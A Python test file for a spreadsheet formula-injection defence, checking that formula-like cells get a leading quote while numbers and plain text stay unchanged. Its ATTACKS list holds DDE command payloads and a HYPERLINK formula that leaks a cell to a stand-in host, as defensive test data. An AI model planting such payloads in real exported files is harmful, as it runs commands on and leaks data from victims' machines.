"""Formula neutralisation: what a spreadsheet would run gets a leading quote; numbers and plain text do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from moodline.core.spreadsheet import FORMULA_STARTS, neutralise_formula, spreadsheet_row

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.test/?leak="&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "- a list item",
    "-inf",
    "--1",
    "-1-1",
    "+44 20 7946 0958",
    "-1e",
    "-١",  # not an ASCII digit: no number to a spreadsheet
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_a_leading_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.5", "+3", "-12", "1e5", "-1.5E-3", "+.5", "-7.", "0", "42", "3.14"])
def test_numbers_keep_their_sign(text):
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("text", ["", "Alex", " =1+1", "'=1+1", "a=b", "x-1", "100%", "(555) 0100", "\n=1"])
def test_other_text_is_unchanged(text):
    assert neutralise_formula(text) == text


def test_rows_neutralise_text_and_leave_other_values():
    row = ["=1+1", -0.25, None, 3, "-0.5", "Sam", {"k": 1}]
    assert spreadsheet_row(row) == ["'=1+1", -0.25, None, 3, "-0.5", "Sam", {"k": 1}]


@given(st.text())
def test_changed_only_by_one_leading_quote_and_never_left_as_a_formula(text):
    safe = neutralise_formula(text)
    assert safe in (text, "'" + text)
    if safe.startswith(FORMULA_STARTS):  # only plain numbers keep such a start
        float(safe)
